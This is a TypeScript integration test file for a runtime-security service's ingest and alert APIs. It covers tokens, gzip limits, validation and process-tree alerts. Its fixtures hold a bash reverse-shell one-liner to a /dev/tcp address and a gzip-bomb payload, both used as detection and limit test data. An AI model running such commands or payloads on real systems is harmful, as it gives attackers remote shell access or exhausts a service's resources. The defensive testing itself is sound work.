/**
 * POST /api/v1/ingest/runtime and the alert API through the real HTTP app on both backends:
 * cluster ingest tokens, gzip bodies, limits, strict validation naming the field, dedupe, and
 * the alert detail with its process tree.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { INGEST_LIMITS, type RuntimeEvent } from '@palisade/core';
import { forEachBackend, TestClock } from '../storage/harness.js';
import { again, auth, batch, fixtureEvent, nodeAlerts, runtimeApp } from './helpers.js';

interface ErrorReply {
  error: { code: string; message: string };
}

/** fx-003 (a reverse shell) run by `sh -c` from a node server, under the container's shim. */
function reverseShellWithAncestry(): RuntimeEvent {
  const ev = fixtureEvent('fx-003');
  if (!('proc' in ev)) throw new Error('fx-003 has a process');
  ev.proc.ppid = 4230;
  ev.proc.ancestry = [
    { pid: 4230, exe: '/bin/sh', argv: ['sh', '-c', 'bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'] },
    { pid: 4210, exe: '/usr/local/bin/node', argv: ['node', 'server.js'] },
    { pid: 4200, exe: '/usr/bin/containerd-shim-runc-v2', argv: ['containerd-shim-runc-v2'] },
  ];
  return ev;
}

let bomb: Buffer | undefined;
function gzipBomb(): Buffer {
  bomb ??= gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20), { level: 9 });
  return bomb;
}

forEachBackend((h) => {
  const setup = async (): Promise<Awaited<ReturnType<typeof runtimeApp>> & { cleanup: () => Promise<void> }> => {
    const db = await h.fresh();
    const storage = await db.open();
    const t = await runtimeApp(storage, { clock: new TestClock('2026-03-01T10:06:00.000Z') });
    return { ...t, cleanup: () => t.close() };
  };

  test('a batch of recorded events → alerts in the API with context and a process tree; replay accepted once', async () => {
    const t = await setup();
    try {
      const b = batch({
        batchId: 'node-a-000001',
        events: [reverseShellWithAncestry(), fixtureEvent('fx-002'), fixtureEvent('fx-032')],
        counters: { seen: { 'process.exec': 2, 'network.connect': 1 }, kernelDrops: 0, userDrops: 0, spoolDrops: 3 },
      });
      const post = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: auth(t.ingest.prod),
        payload: b,
      });
      assert.equal(post.statusCode, 200, post.body);
      const result = post.json<{ accepted: boolean; queued: boolean; alerts: number; events: number }>();
      assert.equal(result.accepted, true);
      assert.equal(result.queued, false);
      assert.equal(result.events, 3);
      assert.ok(result.alerts >= 2);

      const list = await t.app.inject({
        method: 'GET',
        url: '/api/v1/alerts?ruleId=PAL-RT-002',
        headers: auth(t.reader),
      });
      assert.equal(list.statusCode, 200, list.body);
      const page = list.json<{ items: Array<Record<string, unknown>>; total: number }>();
      assert.equal(page.total, 1);
      const a = page.items[0] as { id: string; clusterId: string; namespace: string; process: unknown; image: string };
      assert.equal(a.clusterId, t.clusters.prod);
      assert.equal(a.namespace, 'shop');
      assert.equal(a.image, 'docker.io/library/nginx:1.27');
      assert.deepEqual(a.process, {
        pid: 4242,
        exe: '/bin/bash',
        argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      });

      const detail = await t.app.inject({ method: 'GET', url: `/api/v1/alerts/${a.id}`, headers: auth(t.reader) });
      assert.equal(detail.statusCode, 200, detail.body);
      const d = detail.json<{ events: RuntimeEvent[]; processTree: unknown[] }>();
      assert.equal(d.events.length, 1);
      assert.equal(d.events[0]?.id, 'fx-003');
      assert.deepEqual(d.processTree, [
        {
          pid: 4200,
          exe: '/usr/bin/containerd-shim-runc-v2',
          argv: ['containerd-shim-runc-v2'],
          alerting: false,
          children: [
            {
              pid: 4210,
              exe: '/usr/local/bin/node',
              argv: ['node', 'server.js'],
              alerting: false,
              children: [
                {
                  pid: 4230,
                  exe: '/bin/sh',
                  argv: ['sh', '-c', 'bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"'],
                  alerting: false,
                  children: [
                    {
                      pid: 4242,
                      exe: '/bin/bash',
                      argv: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
                      alerting: true,
                      children: [],
                    },
                  ],
                },
              ],
            },
          ],
        },
      ]);

      // The same batch again: accepted once.
      const replay = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: auth(t.ingest.prod),
        payload: b,
      });
      assert.equal(replay.statusCode, 200);
      assert.deepEqual(replay.json(), {
        batchId: b.batchId,
        accepted: false,
        queued: false,
        alerts: 0,
        events: 0,
        duplicates: 0,
      });
      const all = await t.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: auth(t.reader) });
      assert.equal(all.json<{ total: number }>().total, result.alerts);

      const groups = await t.app.inject({
        method: 'GET',
        url: '/api/v1/alert-groups?minSeverity=high',
        headers: auth(t.reader),
      });
      assert.equal(groups.statusCode, 200, groups.body);
      assert.ok(groups.json<{ items: Array<{ count: number }> }>().items.every((g) => g.count === 1));

      const sensors = await t.app.inject({ method: 'GET', url: '/api/v1/runtime/sensors', headers: auth(t.reader) });
      assert.equal(sensors.statusCode, 200);
      const [s] = sensors.json<{ items: Array<{ node: string; spoolDrops: number; batches: number; seen: object }> }>()
        .items;
      assert.deepEqual(
        [s?.node, s?.spoolDrops, s?.batches, s?.seen],
        ['node-a', 3, 1, { 'network.connect': 1, 'process.exec': 2 }],
      );

      const missing = await t.app.inject({
        method: 'GET',
        url: '/api/v1/alerts/0123456789abcdef',
        headers: auth(t.reader),
      });
      assert.equal(missing.statusCode, 404);
    } finally {
      await t.cleanup();
    }
  });

  test('filters in the query: cluster, severity list, namespace, time; bad values are 400 naming the parameter', async () => {
    const t = await setup();
    try {
      const events = ['fx-001', 'fx-005', 'fx-038'].map(fixtureEvent);
      for (const [token, id] of [
        [t.ingest.prod, 'p1'],
        [t.ingest.dev, 'd1'],
      ] as const) {
        const r = await t.app.inject({
          method: 'POST',
          url: '/api/v1/ingest/runtime',
          headers: auth(token),
          payload: batch({ batchId: id, events, alerts: nodeAlerts([events[0] as RuntimeEvent]) }),
        });
        assert.equal(r.statusCode, 200, r.body);
      }
      const get = async (
        qs: string,
      ): Promise<Array<{ clusterId: string; severity: string; namespace: string | null }>> => {
        const r = await t.app.inject({ method: 'GET', url: `/api/v1/alerts?${qs}`, headers: auth(t.reader) });
        assert.equal(r.statusCode, 200, r.body);
        return r.json<{ items: Array<{ clusterId: string; severity: string; namespace: string | null }> }>().items;
      };
      const all = await get('limit=500');
      const dev = await get(`clusterId=${t.clusters.dev}`);
      assert.ok(dev.length > 0 && dev.length * 2 === all.length);
      assert.ok(dev.every((a) => a.clusterId === t.clusters.dev));
      const sev = await get('severity=critical,high');
      assert.ok(sev.every((a) => a.severity === 'critical' || a.severity === 'high'));
      assert.equal(sev.length, all.filter((a) => a.severity === 'critical' || a.severity === 'high').length);
      assert.ok((await get('namespace=shop')).every((a) => a.namespace === 'shop'));
      assert.equal((await get('from=2030-01-01T00:00:00Z')).length, 0);
      assert.equal((await get('to=2026-03-01T10:00:00Z')).length, 0);

      for (const [qs, field] of [
        ['severity=urgent', 'querystring.severity'],
        ['from=yesterday', 'querystring.from'],
        ['limit=0', 'querystring.limit'],
        ['colour=red', 'querystring.colour'],
      ] as const) {
        const r = await t.app.inject({ method: 'GET', url: `/api/v1/alerts?${qs}`, headers: auth(t.reader) });
        assert.equal(r.statusCode, 400, qs);
        assert.ok(r.json<ErrorReply>().error.message.startsWith(field), r.body);
      }
    } finally {
      await t.cleanup();
    }
  });

  test('tokens: a wrong or absent ingest token is 401; an API token cannot ingest; an ingest token cannot read', async () => {
    const t = await setup();
    try {
      const payload = batch({ batchId: 'x1', events: [fixtureEvent('fx-001')] });
      for (const headers of [
        {},
        auth('pal_in_wrongwrongwrongwrongwrong'),
        auth(t.admin),
        { authorization: 'Basic eDp5' },
      ]) {
        const r = await t.app.inject({ method: 'POST', url: '/api/v1/ingest/runtime', headers, payload });
        assert.equal(r.statusCode, 401, JSON.stringify(headers));
        assert.equal(r.json<ErrorReply>().error.code, 'E_AUTH');
      }
      const read = await t.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: auth(t.ingest.prod) });
      assert.equal(read.statusCode, 401);
      const none = await t.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: auth(t.reader) });
      assert.equal(none.json<{ total: number }>().total, 0, 'nothing was stored by refused requests');
    } finally {
      await t.cleanup();
    }
  });

  test('gzip bodies are accepted; a gzip bomb, too many items or a body over the limit is 413 naming the limit', async () => {
    const t = await setup();
    try {
      const b = batch({ batchId: 'gz1', events: [fixtureEvent('fx-001')] });
      const gz = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: { ...auth(t.ingest.prod), 'content-type': 'application/json', 'content-encoding': 'gzip' },
        payload: gzipSync(JSON.stringify(b)),
      });
      assert.equal(gz.statusCode, 200, gz.body);
      assert.equal(gz.json<{ accepted: boolean }>().accepted, true);

      // 64 MiB of spaces compress to about 64 KiB: inflating stops at the 16 MiB limit.
      const bomb = gzipBomb();
      assert.ok(bomb.length < 200_000);
      const r = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: { ...auth(t.ingest.prod), 'content-type': 'application/json', 'content-encoding': 'gzip' },
        payload: bomb,
      });
      assert.equal(r.statusCode, 413, r.body);
      assert.match(r.json<ErrorReply>().error.message, /INGEST_LIMITS\.maxBytes/);

      const items = Array.from({ length: INGEST_LIMITS.maxItems + 1 }, (_, i) =>
        again('fx-002', `many-${i}`, '2026-03-01T10:00:00.000Z'),
      );
      const many = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: { ...auth(t.ingest.prod), 'content-type': 'application/json', 'content-encoding': 'gzip' },
        payload: gzipSync(JSON.stringify(batch({ batchId: 'many', events: items }))),
      });
      assert.equal(many.statusCode, 413, many.body);
      assert.match(many.json<ErrorReply>().error.message, /^body: 5001 items .*INGEST_LIMITS\.maxItems/);

      const huge = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: { ...auth(t.ingest.prod), 'content-type': 'application/json' },
        payload: Buffer.alloc(INGEST_LIMITS.maxBytes + 1, 0x20),
      });
      assert.equal(huge.statusCode, 413);
      assert.match(huge.json<ErrorReply>().error.message, new RegExp(String(INGEST_LIMITS.maxBytes)));

      const notGzip = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: { ...auth(t.ingest.prod), 'content-type': 'application/json', 'content-encoding': 'gzip' },
        payload: Buffer.from('{"not":"gzip"}'),
      });
      assert.equal(notGzip.statusCode, 400, notGzip.body);
      assert.match(notGzip.json<ErrorReply>().error.message, /^body: not valid gzip/);
      // Another encoding is the sender's configuration, not a bad batch: 415 (a publisher dead-letters on 400).
      for (const encoding of ['br', 'deflate']) {
        const bad = await t.app.inject({
          method: 'POST',
          url: '/api/v1/ingest/runtime',
          headers: { ...auth(t.ingest.prod), 'content-type': 'application/json', 'content-encoding': encoding },
          payload: Buffer.from('{}'),
        });
        assert.equal(bad.statusCode, 415, bad.body);
        const err = bad.json<ErrorReply>().error;
        assert.equal(err.code, 'E_UNSUPPORTED');
        assert.equal(
          err.message,
          `Content-Encoding: '${encoding}' is not supported: send identity or gzip`,
          'names the supported encodings',
        );
      }
      const total = await t.app.inject({ method: 'GET', url: '/api/v1/runtime/sensors', headers: auth(t.reader) });
      assert.equal(
        total.json<{ items: Array<{ batches: number }> }>().items[0]?.batches,
        1,
        'only the gzip batch landed',
      );
    } finally {
      await t.cleanup();
    }
  });

  test('malformed batches are 400 naming the exact field; nothing of them is stored', async () => {
    const t = await setup();
    try {
      const alerts = nodeAlerts([
        fixtureEvent('fx-001'),
        fixtureEvent('fx-003'),
        fixtureEvent('fx-005'),
        fixtureEvent('fx-007'),
      ]);
      const base = (): Record<string, unknown> =>
        structuredClone(batch({ batchId: 'bad', alerts, events: [fixtureEvent('fx-032')] })) as unknown as Record<
          string,
          unknown
        >;
      type Mutate = (
        b: Record<string, unknown> & { alerts: Array<Record<string, unknown>>; events: Array<Record<string, unknown>> },
      ) => void;
      const cases: Array<[string, Mutate, string]> = [
        [
          'wrong type deep inside an alert',
          (b) => {
            (
              (b.alerts[3]?.['events'] as Array<{ proc: Record<string, unknown> }>)[0] as {
                proc: Record<string, unknown>;
              }
            ).proc['pid'] = '4242';
          },
          'body.alerts[3].events[0].proc.pid: must be an integer, not a string',
        ],
        [
          'unknown field',
          (b) => void (b.events[0] = { ...b.events[0], colour: 'red' }),
          'body.events[0].colour: unknown field',
        ],
        [
          'unknown event type',
          (b) => void (b.events[0] = { ...b.events[0], type: 'process.teleport' }),
          "body.events[0].type: unknown event type 'process.teleport'",
        ],
        ['missing field', (b) => void delete (b.events[0] as { net?: unknown }).net, 'body.events[0].net: required'],
        [
          'bad severity',
          (b) => void (b.alerts[1] = { ...b.alerts[1], severity: 'urgent' }),
          "body.alerts[1].severity: unknown value 'urgent'",
        ],
        [
          'bad time',
          (b) => void (b.events[0] = { ...b.events[0], time: 'yesterday' }),
          'body.events[0].time: must be an RFC 3339 time',
        ],
        [
          'alert without events',
          (b) => void (b.alerts[0] = { ...b.alerts[0], events: [] }),
          'body.alerts[0].events: must have at least 1 item',
        ],
        [
          'negative counter',
          (b) => void (b.counters = { seen: {}, kernelDrops: -1, userDrops: 0, spoolDrops: 0 }),
          'body.counters.kernelDrops: must be between 0 and',
        ],
        ['bad source', (b) => void (b['source'] = 'laptop'), "body.source: unknown value 'laptop'"],
        ['array body', (b) => void Object.assign(b, { alerts: 'none' }), 'body.alerts: must be an array, not a string'],
        ['unknown top-level field', (b) => void (b['extra'] = 1), 'body.extra: unknown field'],
      ];
      for (const [name, mutate, message] of cases) {
        const body = base();
        mutate(body as Parameters<Mutate>[0]);
        const r = await t.app.inject({
          method: 'POST',
          url: '/api/v1/ingest/runtime',
          headers: auth(t.ingest.prod),
          payload: body,
        });
        assert.equal(r.statusCode, 400, `${name}: ${r.body}`);
        const err = r.json<ErrorReply>().error;
        assert.equal(err.code, 'E_INPUT', name);
        assert.ok(err.message.startsWith(message), `${name}: ${err.message}`);
      }
      for (const payload of ['[]', '"x"', 'not json']) {
        const r = await t.app.inject({
          method: 'POST',
          url: '/api/v1/ingest/runtime',
          headers: { ...auth(t.ingest.prod), 'content-type': 'application/json' },
          payload,
        });
        assert.equal(r.statusCode, 400, payload);
        assert.match(r.json<ErrorReply>().error.message, /^body: /);
      }
      const stored = await t.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: auth(t.reader) });
      assert.equal(stored.json<{ total: number }>().total, 0);
      // The unchanged batch is fine.
      const ok = await t.app.inject({
        method: 'POST',
        url: '/api/v1/ingest/runtime',
        headers: auth(t.ingest.prod),
        payload: base(),
      });
      assert.equal(ok.statusCode, 200, ok.body);
    } finally {
      await t.cleanup();
    }
  });
});

test('without a runtime pipeline the ingest route answers 503 and reads still work', async () => {
  const { tempDir } = await import('@palisade/testkit');
  const { openStorage } = await import('../../src/storage/index.js');
  const dir = tempDir('palisade-rt-');
  const storage = await openStorage({ dataDir: dir.path, secretKey: Buffer.alloc(32, 7) });
  const t = await runtimeApp(storage, { clock: new TestClock(), pipeline: false });
  try {
    const r = await t.app.inject({
      method: 'POST',
      url: '/api/v1/ingest/runtime',
      headers: auth(t.ingest.prod),
      payload: batch({ batchId: 'n', events: [] }),
    });
    assert.equal(r.statusCode, 503);
    const list = await t.app.inject({ method: 'GET', url: '/api/v1/alerts', headers: auth(t.reader) });
    assert.equal(list.statusCode, 200);
  } finally {
    await t.close();
    await storage.close();
    dir.cleanup();
  }
});
